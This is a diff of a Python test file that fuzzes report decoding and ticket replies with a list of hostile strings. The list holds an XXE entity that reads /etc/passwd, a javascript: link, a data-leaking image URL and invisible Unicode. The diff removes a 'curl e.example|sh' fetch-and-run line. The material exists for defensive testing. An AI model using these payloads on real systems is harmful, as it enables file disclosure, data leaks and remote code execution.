@@ -55,7 +55,7 @@ HOSTILE = [
     "]]></failure><!-- <?xml x?> <!DOCTYPE y [<!ENTITY z SYSTEM 'file:///etc/passwd'>]>",
     "![x](http://x/?leak) [y](javascript:z) @all #1 GH-1 ```\n# head\n| a | b |\n```sh",
     'x"} 1\n# TYPE y gauge\ny{a="\\',
-    "x\n\n![p](http://e.example/p.png)\n\n# head\n\nfixes #4 @all\n\n```sh\ncurl e.example|sh\n```\n",
+    "x\n\n![p](http://e.example/p.png)\n\n# head\n\nfixes #4 @all\n\n```sh\ncurl e.example\n```\n",
     "a\U000e0041\U000e0049b\U000e0100\ufe0f\u3164\u2800\u115f\u034f\U00013441c",  # read, not seen
 ]
 WORDS = [*HOSTILE, *map(Sentence, HOSTILE), *(Sentence("{x}", {"x": word}) for word in HOSTILE)]
@@ -206,8 +206,9 @@ def test_forged_sentences_of_a_saved_report(sample: Callable[[], Report], word: 
             decode(document.encode())
         return
     snapshot = decode(document.encode())
-    for origin in ("live", "pasted"):
-        snapshot.origin = typing.cast("Origin", origin)
+    origins: tuple[Origin, ...] = ("live", "pasted")
+    for origin in origins:
+        snapshot.origin = origin
         report = judge_saved(snapshot, TABLES)
         is_harmless(report)
         assert "curl" not in "".join(line for line in ticket_reply.reply(report).split("```")[1::2])
